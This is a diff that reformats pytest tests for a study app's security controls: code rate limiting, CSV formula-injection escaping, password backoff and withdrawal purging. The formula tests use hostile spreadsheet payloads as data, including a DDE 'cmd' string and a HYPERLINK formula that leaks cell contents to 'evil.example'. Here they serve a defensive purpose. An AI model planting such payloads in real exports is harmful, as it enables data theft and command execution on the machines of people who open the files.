@@ -94,12 +94,24 @@ def test_code_entry_is_rate_limited(store: StudyStore, ham_dir: Path) -> None:
 
 
 # -- item 7: formulas in CSV cells ----------------------------------------------------------------------------------
-@pytest.mark.parametrize("value, expected", [
-    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
-    ("+1+2", "'+1+2"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("fine", "fine"), ("", ""), ("-3", "-3"), ("-0.5", "-0.5"),
-    (-3, -3), (4.5, 4.5), (None, None),
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1+2", "'+1+2"),
+        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("fine", "fine"),
+        ("", ""),
+        ("-3", "-3"),
+        ("-0.5", "-0.5"),
+        (-3, -3),
+        (4.5, 4.5),
+        (None, None),
+    ],
+)
 def test_formula_safe(value: object, expected: object) -> None:
     from dermchat.csv_safety import formula_safe
 
@@ -110,10 +122,18 @@ def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path, store: StudyS
     from dermchat.study.export import export, export_zip
 
     store.enrol(SID, "AB12-CD34-EF56", lambda seq: ["a"], user_agent="=cmd|' /C calc'!A0")
-    store.save_answers(SID, "AB12-CD34-EF56", 0, [
-        AnswerRow("comments", "text", '=HYPERLINK("http://evil.example/?leak="&A1)', None),
-        AnswerRow("trust", "likert", "4", 4.0),
-    ], case_id=None, questionnaire_id="final", arm=None)
+    store.save_answers(
+        SID,
+        "AB12-CD34-EF56",
+        0,
+        [
+            AnswerRow("comments", "text", '=HYPERLINK("http://evil.example/?leak="&A1)', None),
+            AnswerRow("trust", "likert", "4", 4.0),
+        ],
+        case_id=None,
+        questionnaire_id="final",
+        arm=None,
+    )
     store.log(SID, "AB12-CD34-EF56", "note", {"text": '=HYPERLINK("http://evil.example/")'})
     written = export(store.url, tmp_path / "out", SID)
     with zipfile.ZipFile(export_zip(store.url, tmp_path / "x.zip", SID)) as zf:
@@ -128,8 +148,9 @@ def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path, store: StudyS
 
 
 # -- item 8: researcher password ------------------------------------------------------------------------------------
-def test_wrong_passwords_lock_the_page_with_a_doubling_backoff(monkeypatch: pytest.MonkeyPatch,
-                                                             caplog: pytest.LogCaptureFixture) -> None:
+def test_wrong_passwords_lock_the_page_with_a_doubling_backoff(
+    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
     from dermchat.ratelimit import Backoff
     from dermchat_ui import researcher
 
@@ -185,8 +206,9 @@ def test_an_export_is_never_a_file_on_the_server(tmp_path: Path, researcher_page
         assert "AB12-CD34-EF56" in zf.read("participants.csv").decode()
 
 
-def test_withdrawal_purges_the_participant_from_exports_left_on_disk(tmp_path: Path, researcher_page,
-                                                                     store: StudyStore) -> None:
+def test_withdrawal_purges_the_participant_from_exports_left_on_disk(
+    tmp_path: Path, researcher_page, store: StudyStore
+) -> None:
     from dermchat_ui.uploads import gradio_cache_dir
 
     store.enrol(SID, "AB12-CD34-EF56", lambda seq: ["a"])
